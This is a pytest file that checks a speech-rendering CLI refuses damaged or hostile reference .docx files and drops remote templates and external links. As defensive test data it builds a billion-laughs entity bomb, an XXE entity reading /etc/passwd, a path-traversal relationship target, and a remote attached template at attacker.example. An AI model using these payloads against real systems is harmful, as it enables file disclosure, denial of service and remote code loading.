"""`--reference-doc` with a damaged or hostile .docx: a Chinese message and exit 2, never a
traceback; and nothing of a reference reaches outside the speech (remote templates, links)."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from .conftest import EXAMPLE, run_cli

Parts = dict[str, bytes]


@pytest.fixture(scope="module")
def drafter_docx(tmp_path_factory: pytest.TempPathFactory) -> Parts:
    out = tmp_path_factory.mktemp("ref")
    result = run_cli("render", EXAMPLE, "-o", out)
    assert result.exit_code == 0, result.stderr
    with zipfile.ZipFile(out / f"{EXAMPLE.stem}.docx") as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _reference(tmp_path: Path, parts: Parts, change: Callable[[Parts], None]) -> Path:
    edited = dict(parts)
    change(edited)
    path = tmp_path / "单位模板.docx"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in edited.items():
            archive.writestr(name, data)
    path.write_bytes(buffer.getvalue())
    return path


def _render(tmp_path: Path, reference: Path) -> tuple[int, str, Path]:
    out = tmp_path / "out"
    result = run_cli("render", EXAMPLE, "-o", out, "--reference-doc", reference)
    return result.exit_code, result.stderr, out / f"{EXAMPLE.stem}.docx"


def _replace(name: str, old: bytes, new: bytes) -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        assert old in parts[name], (name, old)
        parts[name] = parts[name].replace(old, new, 1)

    return change


LAUGHS = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
HOSTILE = {
    "no-document": lambda parts: parts.pop("word/document.xml"),
    "dangling-target": _replace(
        "word/_rels/document.xml.rels", b'Target="styles.xml"', b'Target="missing.xml"'
    ),
    "escaping-target": _replace(
        "word/_rels/document.xml.rels", b'Target="styles.xml"', b'Target="../../../../etc/passwd"'
    ),
    "billion-laughs": _replace("word/styles.xml", b"?>", b"?>" + LAUGHS),
    "external-entity": _replace(
        "word/styles.xml", b"?>", b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    ),
    "deep-nesting": _replace(
        "word/styles.xml", b"</w:styles>", b"<a>" * 300 + b"</a>" * 300 + b"</w:styles>"
    ),
    "bad-xml": _replace("word/styles.xml", b"</w:styles>", b"<w:style></w:styles>"),
}


@pytest.mark.parametrize("case", HOSTILE, ids=list(HOSTILE))
def test_a_damaged_or_hostile_reference_is_refused(
    tmp_path: Path, drafter_docx: Parts, case: str
) -> None:
    reference = _reference(tmp_path, drafter_docx, HOSTILE[case])
    code, stderr, target = _render(tmp_path, reference)
    assert code == 2, stderr
    assert "参考文档" in stderr and str(reference) in stderr
    assert "Traceback" not in stderr
    assert not target.exists()


def test_a_remote_attached_template_and_external_links_are_dropped(
    tmp_path: Path, drafter_docx: Parts
) -> None:
    remote = b"http://attacker.example/template.dotm"

    def attach(parts: Parts) -> None:
        rels = "word/_rels/settings.xml.rels"
        parts[rels] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/attachedTemplate" Target="' + remote + b'" TargetMode="External"/>'
            b"</Relationships>"
        )
        parts["word/settings.xml"] = re.sub(
            rb"(<w:settings[^>]*>)",
            rb'\1<w:attachedTemplate r:id="rId99"/>',
            parts["word/settings.xml"],
            count=1,
        )
        if b"xmlns:r=" not in parts["word/settings.xml"][:2000]:
            parts["word/settings.xml"] = parts["word/settings.xml"].replace(
                b"<w:settings ",
                b'<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
                1,
            )

    reference = _reference(tmp_path, drafter_docx, attach)
    code, stderr, target = _render(tmp_path, reference)
    assert code == 0, stderr
    with zipfile.ZipFile(target) as speech:
        everything = b"".join(speech.read(name) for name in speech.namelist())
    assert remote not in everything
    assert b"attachedTemplate" not in everything
    assert b'TargetMode="External"' not in everything


def test_an_ole_word_97_file_is_explained(tmp_path: Path) -> None:
    old = tmp_path / "old.doc"
    old.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    code, stderr, _ = _render(tmp_path, old)
    assert code == 2 and "另存为" in stderr
